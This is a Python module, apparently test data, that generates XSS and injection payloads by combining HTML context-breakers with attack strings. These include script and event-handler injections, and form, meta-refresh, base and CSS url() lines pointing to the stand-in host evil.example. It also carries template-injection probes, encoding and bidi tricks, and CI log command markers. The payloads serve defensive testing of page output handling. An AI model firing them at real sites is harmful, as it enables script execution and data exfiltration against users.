"""Texts that attack a page: each breaker before each attack. None is about one browser's mistake; all are about ours."""

from __future__ import annotations

from typing import Final

_BREAKERS: Final = (
    "", '">', "'>", '" ', "</p>", "</style>", "</textarea></title>", "-->", "]]>", "\\'}", "</iframe>",
    "&quot;&gt;", "{{ 7 * 7 }}{% raw %}",
)  # fmt: skip
_ATTACKS: Final = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>@import 'https://evil.example/a.css';*{background:url(https://evil.example)}</style>",
    "<meta http-equiv='refresh' content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<form action='https://evil.example'><input name=a><button>x</button></form>",
    "<link rel=stylesheet href='https://evil.example/a.css'>",
    "onmouseover=alert(1) style=background:url(https://evil.example) x=",
    "<math><mtext></mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "srcdoc='<script src=https://evil.example></script>' onload=alert(1) x='",
    ";background:url(https://evil.example/a.png);--ct-pic-0:url(https://evil.example)",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<template><script>alert(1)</script></template>",
)
_ALONE: Final = (
    "\u202e</bdi>gnp.exe\u202c",
    "\u2066<b>\u2069",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\ud800<script>alert(1)</script>",
    "\u2028<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<" * 50 + "script>",
    "<!--" * 20,
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "{{ ''.__class__.__mro__ }}",
    "{% if true %}<script>alert(1)</script>{% endif %}",
    "{{ '<script>alert(1)</script>' }}",
    "{{ Profile.Name }}<script>{{ Profile.Name }}</script>",
    "##[error]x\n::error::x",
)

PAYLOADS: Final = tuple(breaker + attack for breaker in _BREAKERS for attack in _ATTACKS) + _ALONE
